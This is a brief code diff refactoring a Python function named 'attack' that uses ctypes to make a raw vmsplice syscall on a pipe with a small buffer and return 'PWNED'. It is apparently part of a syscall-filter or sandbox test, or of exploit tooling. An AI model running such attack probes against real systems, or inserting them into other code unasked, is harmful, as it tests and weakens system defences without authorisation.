@@ -17,7 +17,8 @@ def attack(target):
     area = ctypes.create_string_buffer(b"gift")
     span = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(area), 4))
     pipe = os.pipe()
-    result = libc.syscall(*map(ctypes.c_long, (number, pipe[1], ctypes.addressof(span), 1, 0)))
+    arguments = (pipe[1], ctypes.addressof(span), 1, 0)
+    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return f"PWNED: vmsplice returned {result}"
